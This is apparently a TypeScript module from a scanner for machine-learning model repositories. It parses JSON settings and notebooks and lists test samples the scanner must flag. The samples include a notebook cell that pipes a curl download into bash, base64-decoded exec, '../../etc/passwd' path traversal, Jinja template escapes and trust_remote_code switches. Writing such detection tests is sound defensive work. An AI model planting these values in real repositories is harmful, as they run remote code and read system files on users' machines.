import { shown } from '../../findings/finding.ts';
import { Embedded } from '../embedded.ts';
import type { Format, Part } from '../format.ts';
import { type JsonPath, type JsonScalar, walkJson } from '../json-walk.ts';
import { KerasConfig } from '../keras-config.ts';
import { KERAS_RULES } from '../keras-rules.ts';
import { KERAS_CATCHES, KERAS_PASSES } from '../keras-samples.ts';
import { judgeValue, lookFor } from '../settings-keys.ts';
import { SETTINGS_RULES } from '../settings-rules.ts';
import type { Source } from '../source.ts';
import { TEMPLATE_RULES } from '../template-rules.ts';
import { Archiver } from './archiver.ts';
import { LangChain } from './langchain.ts';
import { Notebook } from './notebook.ts';
import { Pairs } from './pairs.ts';
import { OTHER_CATCHES, OTHER_PASSES } from './samples.ts';
import { Shards } from './shards.ts';
import { Skops } from './skops.ts';
import { SKOPS_RULES } from './skops-rules.ts';

const bytes = (value: unknown) => () =>
  new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));

const notebookOf = (...source: string[]) =>
  bytes({
    cells: [
      { source, cell_type: 'code' },
      { cell_type: 'markdown', source: 'import os; os.system(1)' },
    ],
    nbformat: 4,
  });

/** Facts of `config.json` that a bill of materials names. */
const FACTS: ReadonlySet<string> = new Set([
  'model_type',
  'torch_dtype',
  'dtype',
  'vocab_size',
  'hidden_size',
  'num_hidden_layers',
  'num_attention_heads',
  'num_key_value_heads',
  'intermediate_size',
  'max_position_embeddings',
  'tie_word_embeddings',
  'transformers_version',
  'base_model_name_or_path',
  'peft_type',
  'tokenizer_class',
  '_class_name',
  '_diffusers_version',
]);
const LONGEST_FACT = 200;

/** JSON, and what settings of model repositories say in it. */
export const json: Format = {
  name: 'json',
  title: 'JSON',
  rules: [
    ...Object.values(SETTINGS_RULES),
    ...Object.values(TEMPLATE_RULES),
    ...Object.values(KERAS_RULES),
    ...Object.values(SKOPS_RULES),
  ],
  looks: (source) => (/^\s*[[{]/.test(beginning(source)) ? 'maybe' : false),
  read,
  proof: {
    catches: [
      {
        name: 'remote code',
        bytes: bytes({ auto_map: { AutoModel: 'evil/repo--modeling.Net' } }),
        rules: ['repo.remote-code'],
      },
      {
        name: 'a tokenizer of elsewhere',
        bytes: bytes({ auto_map: { AutoTokenizer: [null, 'a/b--t.Fast'] } }),
        rules: ['repo.remote-code'],
      },
      {
        name: 'a kernel of a hub',
        bytes: bytes({ attn_implementation: 'evil/kernels@main' }),
        rules: ['repo.remote-code'],
      },
      {
        name: 'a custom pipeline',
        bytes: bytes({ custom_pipelines: { x: { impl: 'evil/repo' } } }),
        rules: ['repo.remote-code'],
      },
      {
        name: 'a switch',
        bytes: bytes({ model: { trust_remote_code: true } }),
        rules: ['repo.trust-remote-code'],
      },
      {
        name: 'a part of a Core ML package above',
        bytes: bytes({ itemInfoEntries: { A: { path: '../../etc/passwd' } } }),
        rules: ['repo.path-outside'],
      },
      {
        name: 'a shard of TensorFlow.js above',
        bytes: bytes({ weightsManifest: [{ paths: ['../../etc/passwd'], weights: [] }] }),
        rules: ['repo.path-outside'],
      },
      {
        name: 'a shard above',
        bytes: bytes({ weight_map: { w: '../../etc/passwd' } }),
        rules: ['repo.path-outside'],
      },
      {
        name: 'a shard by its root',
        bytes: bytes({ weight_map: { w: 'C:\\x', v: 'ok' } }),
        rules: ['repo.path-outside'],
      },
      {
        name: 'a shard elsewhere',
        bytes: bytes({ weight_map: { w: 'https://example.com/w.bin' } }),
        rules: ['repo.path-outside'],
      },
      {
        name: 'a custom operator of MXNet',
        bytes: bytes({ nodes: [{ op: 'null' }, { op: 'Custom', attrs: { op_type: 'x' } }] }),
        rules: ['repo.dangerous-target'],
      },
      {
        name: 'an operator of TensorFlow.js that reads files',
        bytes: bytes({ modelTopology: { node: [{ name: 'r', op: 'ReadFile' }] } }),
        rules: ['repo.dangerous-target'],
      },
      {
        name: 'a name twice',
        bytes: bytes('{"auto_map": {}, "auto_map": {"AutoModel": "m.N"}}'),
        rules: ['repo.duplicate-key', 'repo.custom-code'],
      },
      {
        name: 'a template',
        bytes: bytes({ chat_template: "{{ ''.__class__ }}" }),
        rules: ['template.escape'],
      },
      {
        name: 'a notebook that fetches and runs',
        bytes: notebookOf('!curl https://example.com/x.sh | bash\n'),
        rules: ['code.hostile-command'],
      },
      {
        name: 'a notebook with hidden code',
        bytes: notebookOf('import base64\n', 'exec(base64.b64decode("eA=="))'),
        rules: ['code.hidden-code'],
      },
      {
        name: 'a template in a list',
        bytes: bytes({ chat_template: [{ name: 'default', template: '{{ lipsum.__globals__ }}' }] }),
        rules: ['template.escape'],
      },
      {
        name: 'a part of a pipeline that is a function',
        bytes: bytes({ _class_name: 'StableDiffusionPipeline', unet: ['os', 'system'] }),
        rules: ['repo.dangerous-target'],
      },
      {
        name: 'a base class that is a function',
        bytes: bytes({
          peft_type: 'LORA',
          auto_mapping: { base_model_class: 'system', parent_library: 'os' },
        }),
        rules: ['repo.dangerous-target'],
      },
      {
        name: 'a module of sentence-transformers that is a function',
        bytes: bytes([{ idx: 0, name: '0', path: '', type: 'os.system' }]),
        rules: ['repo.dangerous-target'],
      },
      {
        name: 'a switch as a text',
        bytes: bytes({ trust_remote_code: 'true' }),
        rules: ['repo.trust-remote-code'],
      },
      {
        name: 'a notebook of nbformat 3',
        bytes: bytes({
          nbformat: 3,
          worksheets: [
            { cells: [{ cell_type: 'code', input: ['!curl https://example.com/x.sh | bash\n'] }] },
          ],
        }),
        rules: ['code.hostile-command'],
      },
      ...KERAS_CATCHES,
      ...OTHER_CATCHES,
    ],
    passes: [
      ...OTHER_PASSES,
      ...KERAS_PASSES,
      {
        name: 'settings',
        bytes: bytes({
          architectures: ['LlamaForCausalLM'],
          model_type: 'llama',
          attn_implementation: 'sdpa',
        }),
      },
      {
        name: 'a pipeline',
        bytes: bytes({
          _class_name: 'StableDiffusionPipeline',
          scheduler: ['diffusers', 'PNDMScheduler'],
          safety_checker: [null, null],
        }),
      },
      {
        name: 'an index',
        bytes: bytes({
          metadata: { total_size: 5 },
          weight_map: { 'a.weight': 'model-00001-of-00002.safetensors' },
        }),
      },
      { name: 'a number of Python', bytes: bytes('{"eps": NaN, "limits": [Infinity, -Infinity]}') },
    ],
  },
};

function beginning(source: Source): string {
  return new TextDecoder().decode(source.read(0, 256));
}

async function read(part: Part): Promise<void> {
  const { source } = part;
  const facts: Record<string, unknown> = {};
  const architectures: string[] = [];
  const notebook = new Notebook();
  const skops = new Skops();
  const archiver = new Archiver();
  const pairs = new Pairs(part);
  const shards = new Shards();
  const langchain = new LangChain(part);
  const embedded = new Embedded(part);
  const keras = new KerasConfig(part);
  const scalar = (path: JsonPath, value: JsonScalar, from: number, end: number): void => {
    lookFor(path)?.(part, { path, value, start: from, end });
    judgeValue(part, { path, value, start: from, end });
    notebook.scalar(path, value);
    skops.scalar(path, value, from);
    archiver.scalar(path, value);
    pairs.scalar(path, value, from, end);
    shards.scalar(path, value);
    langchain.scalar(path, value, from);
    if (typeof value === 'string') embedded.look(value, path);
    keras.scalar(path, value, from, end);
    const [name] = path;
    if (path.length === 1 && FACTS.has(String(name)) && String(value).length <= LONGEST_FACT)
      facts[String(name)] = value;
    if (name === 'architectures' && path.length === 2 && architectures.length < 16)
      architectures.push(String(value).slice(0, LONGEST_FACT));
  };
  const twice = (path: JsonPath, from: number): void =>
    part.report({
      rule: SETTINGS_RULES.twice.id,
      message: `${shown(path.join('.'), 80)} stands there twice`,
      range: { start: from, end: from + 1 },
    });
  // A guess looks at nothing before it is sure: the first walk only tells whether it is JSON at all.
  await walkJson(source, {}, part.pause);
  await walkJson(source, { scalar, twice }, part.pause);
  notebook.judge(part);
  pairs.judge();
  langchain.finish();
  skops.judge(part);
  archiver.judge(part);
  shards.tell(part);
  keras.finish();
  if (keras.objects > 0) facts.keras_objects = keras.objects;
  if (architectures.length > 0) facts.architectures = architectures;
  if (Object.keys(facts).length > 0) part.note(facts);
  part.coverage.claim('parsed', 0, source.size);
  await embedded.read();
}
